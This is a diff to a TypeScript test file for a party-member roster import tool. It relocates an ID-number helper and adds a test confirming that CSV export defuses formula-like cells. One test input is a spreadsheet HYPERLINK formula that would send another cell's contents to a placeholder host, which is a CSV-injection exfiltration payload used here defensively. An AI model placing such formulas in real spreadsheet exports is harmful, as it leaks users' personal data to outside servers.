@@ -5,7 +5,6 @@ import {
   columnLetter,
   containsPiiShape,
   defuseFormula,
-  idNumberCheckCharacter,
   importRoster,
   parseCsv,
   parseRoster,
@@ -19,7 +18,7 @@ import {
 } from '@dangjian/core';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { smallStreet } from './fixtures.js';
+import { idNumber, smallStreet } from './fixtures.js';
 
 const header = [
   '编号',
@@ -32,7 +31,6 @@ const header = [
   '日常管理党组织',
   '就业状况',
 ];
-const idNumber = (body: string): string => `${body}${idNumberCheckCharacter(body)}`;
 const validRows = (): string[][] => [
   [...header],
   ['m1', '王秀英', '女', '1948/3/2', idNumber('32040219480302002'), '正式党员', 'b1', '', '离退休'],
@@ -302,6 +300,20 @@ describe('CSV', () => {
       '党员类别',
       '组织关系所在党组织',
     ]);
+  });
+
+  it('defuses would-be formulas in CSV and reads them back as text', () => {
+    const csv = toCsv([['姓名'], ['=HYPERLINK("http://x/?"&E2)'], ['-1']]);
+    expect(csv).toContain(`'=HYPERLINK`);
+    expect(parseCsv(csv).map((row) => row[0])).toEqual(['姓名', `'=HYPERLINK("http://x/?"&E2)`, "'-1"]);
+    const parsed = parseRoster(
+      [
+        ['编号', '姓名', '性别', '出生日期', '党员类别', '组织关系所在党组织'],
+        ...parseCsv(toCsv([['m1', '+王', '男', '1960-01-01', '正式党员', 'b1']])),
+      ],
+      smallStreet(),
+    );
+    expect(parsed.ok && parsed.value[0]!.name).toBe('+王');
   });
 });
 
